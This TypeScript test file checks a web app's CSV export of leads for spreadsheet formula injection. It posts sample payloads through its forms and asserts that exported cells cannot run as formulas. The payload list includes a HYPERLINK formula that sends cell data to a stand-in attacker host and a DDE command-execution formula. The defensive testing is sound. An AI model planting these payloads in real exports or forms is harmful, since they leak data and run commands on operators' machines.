import { parse } from 'csv-parse/sync';
import { mustHold } from '../../bench/figure.ts';
import { using } from '../../bench/pages/opened.ts';
import { aSentLead } from '../../builders/sent-lead.ts';
import { openSqliteStorage } from '../../faults/storage.ts';
import { postForm, postJson } from '../ask.ts';
import { usingAttackedSite } from '../attacked-site.ts';
import { noneOf, type AttackMeasurement } from '../attack-measurement.ts';
import { runData } from '../data-command.ts';

/** Texts that spreadsheets treat as a formula, or run. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  'a;=1+1',
  'a\t=1+1',
];

/** Matches formulas, even where a spreadsheet splits a quoted cell. */
const RUNS = /^[\t\r]|(?:^|[,;\t\r\n])[=+\-@]/;

/** Every cell of an export, without the header row. */
const cellsOf = (csv: string): ReadonlyArray<string> =>
  (parse(csv, { bom: true, from_line: 2 }) as ReadonlyArray<ReadonlyArray<string>>).flat();

/** Formulas in form fields, which an operator opens in a spreadsheet (issue: CSV injection). */
export const measureCsvInjection: AttackMeasurement = () =>
  using(openSqliteStorage(), ({ settings }) =>
    usingAttackedSite({ ...settings, RATE_LIMIT: '0' }, async ({ address }) => {
      for (const formula of FORMULAS) {
        const names = { firstName: formula, lastName: formula, addressLine1: formula, city: formula };
        const texts = { ...names, confirmed: 'addressLine1' };
        await postJson(`${address}/api/leads`, aSentLead({ ...texts, formId: 'home-form', topic: 'other' }));
        const comments = { ...aSentLead({ comments: formula, formId: 'contact-form' }) };
        await postJson(`${address}/api/leads`, comments);
        await postForm(`${address}/contact/`, {
          ...(Object.fromEntries(Object.entries(comments)) as Record<string, string>),
          comments: `${formula} `,
        });
      }
      const csv = await runData(settings, 'export', 'leads');
      const json = await runData(settings, 'export', 'leads', '--format', 'json');
      const cells = cellsOf(csv);
      const kept = FORMULAS.filter((formula) => json.includes(JSON.stringify(formula)));
      return [
        noneOf(
          'CSV export of leads: cells that a spreadsheet runs',
          cells.filter((cell) => RUNS.test(cell)).map((cell) => JSON.stringify(cell.slice(0, 30))),
        ),
        mustHold('JSON export of leads: formulas stay as they were typed', kept.length > 0, 'none is there'),
      ];
    }),
  );
